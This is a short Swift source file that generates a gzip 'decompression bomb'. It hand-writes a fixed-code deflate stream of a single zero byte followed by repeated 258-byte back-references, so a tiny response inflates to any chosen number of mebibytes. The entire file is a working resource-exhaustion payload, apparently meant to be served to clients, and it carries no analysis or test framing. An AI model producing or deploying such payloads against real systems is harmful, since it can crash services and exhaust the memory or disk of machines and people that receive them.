/// A small answer that becomes a large one when it is decompressed.
enum Bomb {
  /// One literal zero and then "the last byte 258 times" again and again, in the fixed code of deflate.
  static func gzip(mebibytes: Int) -> [UInt8] {
    var bits = BitWriter(bytes: [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3])
    bits.write(0b1, count: 1)
    bits.write(0b01, count: 2)
    bits.writeCode(0b0011_0000, count: 8)
    for _ in 0..<(mebibytes << 20) / 258 {
      bits.writeCode(0b1100_0101, count: 8)
      bits.writeCode(0, count: 5)
    }
    bits.writeCode(0, count: 7)
    bits.write(0, count: 7)
    return bits.bytes
  }

  private struct BitWriter {
    var bytes: [UInt8]
    private var pending = 0
    private var used = 0

    init(bytes: [UInt8]) { self.bytes = bytes }

    /// Numbers go in with their lowest bit first.
    mutating func write(_ value: Int, count: Int) {
      pending |= value << used
      used += count
      while used >= 8 {
        bytes.append(UInt8(pending & 255))
        pending >>= 8
        used -= 8
      }
    }

    /// Codes go in with their highest bit first.
    mutating func writeCode(_ code: Int, count: Int) {
      for bit in (0..<count).reversed() { write((code >> bit) & 1, count: 1) }
    }
  }
}
